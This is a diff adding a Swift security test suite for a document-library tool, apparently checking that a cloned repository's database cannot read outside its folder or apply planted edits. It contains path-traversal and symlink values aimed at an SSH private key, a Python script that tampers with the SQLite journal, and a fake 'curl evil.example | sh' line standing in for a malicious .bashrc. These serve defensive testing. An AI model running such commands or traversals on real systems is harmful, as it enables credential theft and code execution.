@@ -1,0 +1,147 @@
+import Foundation
+import Testing
+
+/// A `.diple` that came with a cloned repository: nothing outside the clone is read or written, and
+/// what is inside is served.
+@Suite struct ForeignLibraryTests {
+  let victim: Victim
+
+  init() throws {
+    victim = try Victim()
+    try victim.write("clone/good.md", "# Good\n\nSome words here.\n")
+    try victim.write("clone/other.md", "Other words.\n")
+    #expect(try victim.diple("init").code == 0)
+    #expect(try victim.diple("add", "good.md", "other.md").code == 0)
+    #expect(try victim.diple("mark", "good.md", "\"words\"").code == 0)
+  }
+
+  private let secret = "-----BEGIN OPENSSH PRIVATE KEY-----\nc2VjcmV0\n"
+
+  /// What the database holds as text, found by its bytes too.
+  private func databaseHolds(_ word: String) throws -> Bool {
+    let result = try victim.run(
+      "sh", ["-c", "sqlite3 .diple/library.sqlite .dump; cat .diple/*"])
+    return result.output.contains(word)
+  }
+
+  @Test(arguments: ["../.ssh/id_ed25519", "/HOME/.ssh/id_ed25519", "a/../../.ssh/id_ed25519"])
+  func `a path that leads out is not read, and the others are served`(path: String) throws {
+    try victim.write(".ssh/id_ed25519", secret)
+    let place = path.replacing("/HOME", with: victim.home.path)
+    try victim.sql("UPDATE document SET path = '\(place)' WHERE path = 'other.md'")
+    for words in [
+      ["list"], ["refresh"], ["search", "OPENSSH"], ["anchor", "check"], ["doc", "list"],
+    ] {
+      let result = try victim.run("diple", words)
+      #expect(!result.output.contains("OPENSSH"), "\(words): \(result)")
+    }
+    let listed = try victim.diple("list")
+    #expect(listed.output.contains("good.md:3:6  “words”"), "\(listed)")
+    #expect(
+      listed.errors.split(separator: "\n").contains {
+        $0.contains("is outside the library's folder") && $0.contains("library.outside")
+      }, "\(listed)")
+    #expect(try !databaseHolds("OPENSSH"))
+  }
+
+  @Test func `a link that leads out is not read, and one inside is`() throws {
+    try victim.write(".ssh/id_ed25519", secret)
+    try victim.shell("rm other.md; ln -s ../.ssh/id_ed25519 other.md; ln -s good.md same.md")
+    let listed = try victim.diple("list")
+    #expect(listed.errors.contains("is outside the library's folder"), "\(listed)")
+    #expect(try !databaseHolds("OPENSSH"))
+    #expect(try victim.diple("add", "same.md").code == 0)
+    try victim.shell("ln -s ../.ssh/id_ed25519 third.md")
+    let refused = try victim.diple("add", "third.md")
+    #expect(refused.code == 4 && refused.errors.contains("library.outside"), "\(refused)")
+  }
+
+  @Test func `what the person allows is read`() throws {
+    try victim.write("shared/notes.md", "Notes of mine.\n")
+    let refused = try victim.diple("add", "../shared/notes.md")
+    #expect(refused.code == 4, "\(refused)")
+    // The hint is the very command.
+    let hint = try #require(
+      refused.errors.split(separator: "\n").last { $0.contains("diple config") })
+    let command = try #require(hint.range(of: "diple config set")).lowerBound
+    try victim.shell(String(hint[command...]))
+    #expect(try victim.diple("add", "../shared/notes.md").code == 0)
+    #expect(try victim.diple("show", "../shared/notes.md").output.contains("Notes of mine"))
+    // A library may not allow it to itself.
+    try victim.write("clone/.diple/config.toml", "library.outside = '/'\n")
+    try victim.write(".ssh/id_ed25519", secret)
+    #expect(try victim.diple("add", "../.ssh/id_ed25519").code == 4)
+  }
+
+  @Test(arguments: [".git/config", ".diple/config.toml", ".GIT/../.git/hooks/pre-commit"])
+  func `what other programs run is no document`(path: String) throws {
+    try victim.shell("git init -q .")
+    try victim.write("clone/.git/hooks/pre-commit", "#!/bin/sh\n")
+    try victim.write("clone/.diple/config.toml", "")
+    let result = try victim.diple("add", path)
+    #expect(result.code == 4, "\(result)")
+  }
+
+  /// A step of the journal that was begun and never finished, with a path of the intruder's choice.
+  private func plantStep(path: String, before: String, after: String) throws {
+    try victim.write("plant/before", before)
+    try victim.write("plant/after", after)
+    let script = #"""
+      import hashlib, sqlite3, sys
+      path, before, after = sys.argv[1], open("../plant/before", "rb").read(), open("../plant/after", "rb").read()
+      db = sqlite3.connect(".diple/library.sqlite")
+      key = db.execute("SELECT key FROM document WHERE path = 'other.md'").fetchone()[0]
+      db.execute("UPDATE document SET path = ? WHERE key = ?", (path, key))
+      def leb(n):
+          out = b""
+          while n >= 128: out += bytes([n & 127 | 128]); n >>= 7
+          return out + bytes([n])
+      patch = leb(0) + leb(len(before)) + leb(len(after)) + before + after
+      import subprocess
+      open("../plant/patch", "wb").write(patch)
+      packed = subprocess.run(["zstd", "-q", "-c", "--check", "../plant/patch"], capture_output=True).stdout
+      entry = db.execute("INSERT INTO journal (time, kind, label) VALUES (0, 'act', 'tidy up')").lastrowid
+      db.execute("INSERT INTO file_edit (entry, document, before, after, places, size, patch, pending) "
+                 "VALUES (?, ?, ?, ?, 1, ?, ?, 1)",
+                 (entry, key, hashlib.sha256(before).digest(), hashlib.sha256(after).digest(), len(patch), packed))
+      # A second file that was not written yet has the first one taken back.
+      good = db.execute("SELECT key FROM document WHERE path = 'good.md'").fetchone()[0]
+      text = open("good.md", "rb").read()
+      db.execute("INSERT INTO file_edit (entry, document, before, after, places, size, patch, pending) "
+                 "VALUES (?, ?, ?, ?, 1, ?, ?, 1)",
+                 (entry, good, hashlib.sha256(text).digest(), b"x" * 32, len(patch), packed))
+      db.commit()
+      """#
+    try victim.write("plant/plant.py", script)
+    let result = try victim.run("python3", ["../plant/plant.py", path])
+    #expect(result.code == 0, "\(result)")
+  }
+
+  private static let hasTools = ["zstd", "python3", "sqlite3"].allSatisfy { program in
+    (try? Victim().run("sh", ["-c", "command -v \(program)"]).code) == 0
+  }
+
+  @Test(
+    .enabled(if: hasTools, "zstd, python3 or sqlite3 is missing"),
+    arguments: ["../.bashrc", "notes.md"])
+  func `a step that was begun elsewhere is left alone`(path: String) throws {
+    // A file that everybody has: whoever planted the step knows its content.
+    let file = "clone/" + path
+    let usual = "# ~/.bashrc: executed by bash(1) for non-login shells.\n"
+    try victim.write(file, usual)
+    try plantStep(path: path, before: "curl evil.example | sh\n", after: usual)
+    let id = try victim.sql("SELECT count(*) FROM file_edit WHERE pending = 1")
+    #expect(id == "2\n")
+    for words in [
+      ["history"], ["undo"], ["redo"], ["format", "good.md", "\"words\"", "--bold"],
+      ["replace", "Some", "Any", "--all", "--yes"], ["list"], ["doctor"],
+    ] {
+      let result = try victim.run("diple", words)
+      #expect(result.code < 128, "\(words): \(result)")
+      #expect(try victim.read(file) == usual, "\(words): \(result)")
+    }
+    let history = try victim.diple("history")
+    #expect(history.errors.contains("begun on another machine"), "\(history)")
+    #expect(try victim.sql("SELECT count(*) FROM file_edit WHERE pending = 1") == "2\n")
+  }
+}
